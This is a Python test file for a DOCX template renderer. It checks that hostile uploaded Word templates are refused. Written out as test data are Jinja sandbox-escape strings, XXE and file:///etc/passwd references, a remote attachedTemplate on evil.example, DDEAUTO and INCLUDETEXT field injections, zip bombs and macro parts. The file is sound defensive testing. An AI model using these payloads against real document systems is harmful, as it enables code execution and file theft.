"""An organisation's DOCX may show what there is, and nothing else; a hostile one is refused before it is read."""

from __future__ import annotations

import zipfile
from io import BytesIO

import docx
import pytest

from fishplate.kernel.rendering import RenderingFailed, TemplateWrong, default_docx
from fishplate.kernel.rendering import docx as rendering
from fishplate.kernel.rendering.shape import shaped
from fishplate.kernel.rendering.tests import samples


def word(*paragraphs: str) -> bytes:
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    target = BytesIO()
    document.save(target)
    return target.getvalue()


def changed(file: bytes, **parts: bytes) -> bytes:
    """Return a DOCX with parts replaced or added: ``word__document_xml`` stands for ``word/document.xml``."""
    names = {name.replace("__", "/").replace("_xml", ".xml").replace("_bin", ".bin"): to for name, to in parts.items()}
    target = BytesIO()
    with zipfile.ZipFile(BytesIO(file)) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            if entry.filename not in names:
                new.writestr(entry.filename, old.read(entry))
        for name, content in names.items():
            new.writestr(name, content)
    return target.getvalue()


def part(file: bytes, name: str) -> bytes:
    with zipfile.ZipFile(BytesIO(file)) as archive:
        return archive.read(name)


def filled(template: bytes, *, strict: bool = False) -> str:
    shape = shaped(samples.content("张三 & <李四>", rows=2), samples.FRAME, "签署")
    return samples.text_of_docx(rendering.render(template, shape, strict=strict))


def wrong(template: bytes) -> rendering.Wrong:
    with pytest.raises(rendering.Wrong) as raised:
        filled(template, strict=True)
    return raised.value


def test_it_shows_fields_texts_and_rows_by_name():
    text = filled(
        word(
            "{{ title }} / {{ fields.project }} / {{ texts.background }}",
            "{%p for row in tables.rows %}",
            "{{ loop.index }}: {{ row.number }} {{ row.name }}",
            "{%p endfor %}",
            "{% for party in parties %}[{{ party.label }}]{% endfor %} {{ frame.code }}",
        ),
        strict=True,
    )
    assert "张三 & <李四> / 张三 & <李四> / 张三 & <李四>" in text
    assert "1: 1 张三 & <李四>\n2: 2 张三 & <李四>" in text
    assert "[甲方][供应商] 7K3QF-M2XPA" in text


@pytest.mark.parametrize("wide", [False, True])
def test_the_shipped_template_is_one_that_can_be_uploaded(wide: bool):
    text = filled(default_docx.build(wide=wide, words=samples.WORDS), strict=True)
    assert "一、基本信息" in text
    assert text.count("张三 & <李四>") == 5  # title, fact, text and two rows


def test_an_unknown_field_is_told_with_the_paragraph_it_stands_in():
    error = wrong(word("One {{ title }}", "Budget: {{ fields.budget }}", "Who: {{ sponsor }}"))
    assert error.code == "unknown"
    assert error.place.splitlines() == ["budget: Budget: {{ fields.budget }}", "sponsor: Who: {{ sponsor }}"]


def test_outside_a_trial_an_unknown_field_is_empty():
    assert "[]" in filled(word("[{{ fields.budget }}{% for row in tables.none %}x{% endfor %}]"))


@pytest.mark.parametrize(
    "text", ["{{ title", "{% if %}", "{%p for row in tables.rows %}", "{{ title | no_such_filter }}"]
)
def test_what_cannot_be_read_is_told_with_its_place(text: str):
    error = wrong(word("before", text, "after"))
    assert error.code in {"syntax", "refused", "broken"}
    assert error.place or error.detail


@pytest.mark.parametrize(
    "text",
    [
        "{{ title.__class__.__mro__ }}",
        "{{ title.format('x') }}",
        "{{ ''.join(['a']) }}",
        "{{ fields.items() }}",
        "{{ fields['__class__'] }}",
        "{{ self.__init__.__globals__ }}",
        "{{ loop }}{{ range(10) }}",
        "{{ cycler.__init__ }}{{ lipsum.__globals__ }}",
        "{{ 'a' * 1000000000 }}",
        "{{ 9 ** 9 ** 9 }}",
        "{{ title | attr('__class__') }}",
        "{{ [1] | map('string') }}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}",
        "{% macro m() %}{% endmacro %}{{ m() }}",
    ],
)
def test_a_template_reaches_no_object_and_calls_nothing(text: str):
    assert wrong(word(text)).code in {"unknown", "refused", "syntax", "broken"}


def test_a_template_that_never_ends_is_ended():
    endless = "{% for a in frame.digest %}" * 12 + "x" + "{% endfor %}" * 12
    with pytest.raises((RenderingFailed, TemplateWrong)):
        samples.made("docx", samples.content(), template=word(endless), memory=400_000_000, seconds=3)


def test_what_is_no_word_document_is_refused():
    assert wrong(b"%PDF-1.7").code == "no-docx"
    assert wrong(word("x")[:-300]).code == "no-docx"
    target = BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("hello.txt", "x")
    assert wrong(target.getvalue()).code == "no-docx"


def test_a_bomb_is_refused_by_what_it_unpacks_to():
    assert wrong(changed(word("x"), word__media__bomb_xml=b"0" * 60_000_000)).code == "too-large"
    many = BytesIO(word("x"))
    with zipfile.ZipFile(many, "a") as archive:
        for number in range(600):
            archive.writestr(f"word/media/{number}.txt", "x")
    assert wrong(many.getvalue()).code == "too-large"


def test_macros_and_embedded_objects_are_refused():
    assert wrong(changed(word("x"), word__vbaProject_bin=b"x")).code == "active"
    assert wrong(changed(word("x"), word__embeddings__object_bin=b"x")).code == "active"
    types = part(word("x"), "[Content_Types].xml").replace(b"document.main+xml", b"document.macroEnabled.main+xml")
    target = BytesIO()
    with zipfile.ZipFile(BytesIO(word("x"))) as old, zipfile.ZipFile(target, "w") as new:
        for entry in old.infolist():
            new.writestr(entry.filename, types if entry.filename == "[Content_Types].xml" else old.read(entry))
    assert wrong(target.getvalue()).code == "active"


def test_what_points_outside_is_refused_but_a_link_to_click():
    relationships = part(word("x"), "word/_rels/document.xml.rels")
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

    def with_relationship(name: bytes, to: bytes) -> bytes:
        one = b'<Relationship Id="rId99" Type="' + kind + name + b'" Target="' + to + b'" TargetMode="External"/>'
        return relationships.replace(b"</Relationships>", one + b"</Relationships>")

    def template(name: bytes, to: bytes) -> bytes:
        target = BytesIO()
        with zipfile.ZipFile(BytesIO(word("x"))) as old, zipfile.ZipFile(target, "w") as new:
            for entry in old.infolist():
                is_it = entry.filename == "word/_rels/document.xml.rels"
                new.writestr(entry.filename, with_relationship(name, to) if is_it else old.read(entry))
        return target.getvalue()

    for name, to in ((b"attachedTemplate", b"http://evil.example/t.dotm"), (b"image", b"file:///etc/passwd")):
        error = wrong(template(name, to))
        assert (error.code, error.place) == ("external", to.decode())
    assert "x" in filled(template(b"hyperlink", b"https://example.org/"), strict=True)


def test_fields_that_read_other_files_are_refused():
    body = part(word("MARK"), "word/document.xml")
    field = b'<w:fldSimple w:instr=" INCLUDETEXT &quot;C:\\secret.docx&quot; "/>'
    for hostile in (field, b"<w:r><w:instrText> DDEAUTO c:\\\\cmd </w:instrText></w:r>"):
        marked = body.replace(b"<w:r><w:t>MARK</w:t></w:r>", hostile)
        assert marked != body
        assert wrong(changed(word("x"), word__document_xml=marked)).code == "field"


def field(*pieces: str) -> bytes:
    """A field as Word writes it: a beginning, its instruction in pieces, an end; ``{`` and ``}`` are fields inside."""
    marks = {"{": b'<w:fldChar w:fldCharType="begin"/>', "}": b'<w:fldChar w:fldCharType="end"/>'}
    inside = [marks.get(one) or b"<w:instrText>" + one.encode() + b"</w:instrText>" for one in ("{", *pieces, "}")]
    return b"".join(b"<w:r>" + one + b"</w:r>" for one in inside)


def with_body(marked: bytes) -> bytes:
    body = part(word("MARK"), "word/document.xml")
    return changed(word("x"), word__document_xml=body.replace(b"<w:r><w:t>MARK</w:t></w:r>", marked))


@pytest.mark.parametrize(
    "pieces",
    [
        ("INCLUDE", "TEXT c:/secret.docx"),
        ("DDE", "AUTO c:/cmd"),
        ("RD c:/secret.docx",),
        ("{", "QUOTE DDE", "}", "AUTO c:/cmd"),
        ("{", "=1", "}", " c:/cmd"),
        ("{{ 'DDE' }}", "AUTO c:/cmd"),
        ("PAGE", "{", "INCLUDETEXT c:/secret.docx", "}"),
    ],
)
def test_nor_out_of_pieces(pieces: tuple[str, ...]):
    assert wrong(with_body(field(*pieces))).code == "field"


def test_nor_does_one_come_to_be_when_the_template_is_filled_in():
    shown = b"<w:r><w:t>{% if not title %}</w:t></w:r>"
    begin, read, end = field("PAGE ").partition(b"<w:r><w:instrText>PAGE ")
    hostile = begin + shown + read + end.partition(b"</w:r>")[0] + b"</w:r><w:r><w:t>{% endif %}</w:t></w:r>"
    hostile += b"<w:r><w:instrText>DDEAUTO c:/cmd</w:instrText></w:r>" + end.partition(b"</w:r>")[2]
    assert wrong(with_body(hostile)).code == "field"


def test_a_field_that_only_tells_of_the_document_is_welcome():
    for pieces in (("PA", "GE"), (" page \\* MERGEFORMAT ",), ("IF ", "{", "PAGE", "}", ' = 1 "a" "b"'), ("= 1 + 2",)):
        filled(with_body(field(*pieces)), strict=True)


def test_entities_are_refused():
    body = part(word("x"), "word/document.xml")
    bomb = body.replace(b"<w:document", b'<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document', 1)
    assert wrong(changed(word("x"), word__document_xml=bomb)).code == "bad-xml"
